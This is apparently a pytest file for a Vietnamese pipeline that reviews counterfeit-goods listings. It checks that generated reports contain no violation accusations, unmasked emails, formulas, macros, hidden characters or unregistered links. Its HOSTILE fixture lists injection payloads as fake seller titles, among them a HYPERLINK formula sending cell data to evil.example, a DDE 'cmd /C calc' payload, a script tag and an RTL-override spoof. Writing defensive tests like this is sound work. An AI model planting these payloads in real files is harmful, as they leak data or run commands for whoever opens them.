"""One test over everything that people open: nobody is called guilty before a person decided, and nothing a seller wrote does anything."""

from __future__ import annotations

import csv
import html
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from pipeline.config import DEMO_KEY, load_run_config
from pipeline.lock import lock
from pipeline.platforms.registry import is_registered
from pipeline.reports.results_sheet import RESULT_CHOICES
from pipeline.reports.safe_text import visible, without_email
from pipeline.reports.wording import format_captured
from pipeline.sources.mapping import load_mappings
from pipeline.stages.issue import Issue, issue_list
from pipeline.stages.run import run
from pipeline.trail.sealed import crawls_of

#: "vi phạm" may stand in what says that nothing was found, and in what a person chooses afterwards; about a target it stands nowhere.
ALLOWED = ("không phải xác suất vi phạm", "không phải kết luận vi phạm", *(word.lower() for word in RESULT_CHOICES))
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"Giày Nike rep 1:1")',
    "+cmd|' /C calc'!A0 Giày Nike rep 1:1",
    "@SUM(1+1)*cmd Giày Adidas rep 1:1 zalo ban.hang@thu-mau.example",
    "-2+3 Túi Gucci super fake, thư về a_b@cua-hang.example",
    "<script>alert(1)</script> Giày Nike rep 1:1",
    "Giày Nike rep 1:1 xem tại https://cua-hang-la.example/gian",
    "\u202egnp.exe Giày Nike rep 1:1",
    "Giày Nike\x07\x1b[31m rep 1:1",
)
_UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
_EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[a-z]{2,}")
_KINDS = {".xlsx", ".html", ".csv", ".docx"}


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Every file that a run and an issued list leave for people; the crawl holds what sellers might try."""
    folder = tmp_path_factory.mktemp("words")
    crawl = folder / "crawl.csv"
    with crawl.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["sàn", "mã tin", "tiêu đề", "mô tả", "ngày thu thập", "giá bán", "mã gian hàng", "tên gian hàng", "nơi gửi", "url"])
        for number, text in enumerate(HOSTILE):
            url = f"https://cua-hang-la.example/tin/{number}"
            writer.writerow(["sàn thử", f"T{number}", text, text, "2026-11-20", "100.000", f"S{number}", text[:80], "An Giang", url])
    out = folder / "out"
    with lock(out):
        run([crawl], out=out, config=load_run_config(), mappings=load_mappings(), key=DEMO_KEY)
    crawls = crawls_of(out / "work", [crawl], load_mappings())
    issue_list(out / "work", out / "issued", crawls, Issue("người lập thử", datetime(2026, 11, 21, 1, tzinfo=UTC)))
    found = sorted(path for path in out.rglob("*") if path.suffix in _KINDS and "evidence" not in path.parts)
    assert {path.suffix for path in found} == _KINDS
    assert {"plan.xlsx", "index.html", "thuc-trang.xlsx", "AG.xlsx", "AG.html"} <= {path.name for path in found}
    return found


def texts(path: Path) -> Iterator[str]:
    """What a person can read in a file, part by part."""
    if path.suffix in {".xlsx", ".docx"}:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                yield html.unescape(re.sub(r"<[^>]*>", "", re.sub(r"</(?:si|row|w:p)>", "\n", archive.read(name).decode("utf-8"))))
    elif path.suffix == ".html":
        yield html.unescape(re.sub(r"<[^>]*>", "", re.sub(r"<(script|style)>.*?</\1>", "", path.read_text(encoding="utf-8"), flags=re.DOTALL)))
    else:
        yield path.read_text(encoding="utf-8-sig")


def links(path: Path) -> Iterator[str]:
    """Every address that a click would follow."""
    if path.suffix == ".html":
        yield from (one for one in re.findall(r'(?:href|src)="([^"]*)"', path.read_text(encoding="utf-8")) if not one.startswith("#"))
    if path.suffix in {".xlsx", ".docx"}:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.endswith(".rels"):
                    yield from re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', archive.read(name).decode("utf-8"))


def test_no_output_accuses_mails_links_hides_or_computes(outputs: list[Path]) -> None:
    mentioned = masked = 0
    for path in outputs:
        for text in texts(path):
            lowered = text.lower()
            for phrase in ALLOWED:
                mentioned += lowered.count(phrase)
                lowered = lowered.replace(phrase, "")
            assert "vi phạm" not in lowered, (path.name, lowered[max(0, lowered.find("vi phạm") - 80) :][:160])
            assert not _EMAIL.search(text), (path.name, _EMAIL.search(text))
            assert not _UNSEEN.search(text), (path.name, _UNSEEN.search(text))
            masked += text.count("•••••")
        assert all(is_registered(address) for address in links(path)), (path.name, list(links(path)))
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as archive:
                assert not any(re.search(r"<f[ >]|vbaProject", archive.read(name).decode("utf-8")) for name in archive.namelist()), path.name
        if path.suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as stream:
                cells = [cell for row in csv.reader(stream) for cell in row if cell]
            assert not [cell for cell in cells if cell[0] in "=+-@\t\r|%" and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)]
    # The sentences that may say it are there, and so are the masked addresses: nothing above passed for want of text.
    assert mentioned > 20 and masked > 2


def test_a_draft_says_so_and_no_output_bears_an_emblem(outputs: list[Path]) -> None:
    for path in outputs:
        whole = "\n".join(texts(path))
        if path.suffix != ".csv" and "-0" not in path.stem:
            assert "DỰ THẢO – CHƯA DUYỆT" in whole, path.name
        assert "CỘNG HÒA XÃ HỘI" not in whole.upper(), path.name
        if path.suffix in {".xlsx", ".docx"}:
            with zipfile.ZipFile(path) as archive:
                assert not [name for name in archive.namelist() if "/media/" in name], path.name


def test_an_email_address_is_masked_in_place() -> None:
    text = "liên hệ ban.hang@thu-mau.example nhé, @tenkenh và 5 @ 10k thì không"
    assert len(without_email(text)) == len(text) and "@thu-mau" not in visible(text) and "@tenkenh" in visible(text) and "5 @ 10k" in visible(text)


@pytest.mark.parametrize(
    ("precision", "said"),
    [("second", "23/11/2026 08:30"), ("day", "23/11/2026"), ("file", "23/11/2026"), ("month", "11/2026"), ("year", "2026")],
)
def test_a_time_of_capture_is_told_no_more_exactly_than_it_is_known(precision: str, said: str) -> None:
    assert format_captured(datetime(2026, 11, 23, 1, 30, tzinfo=UTC), precision) == said


def test_a_list_is_named_by_its_week() -> None:
    from pipeline.reports.wording import list_title

    assert list_title(date(2026, 11, 25)).endswith("Tuần 48/2026 (23/11–29/11/2026)")
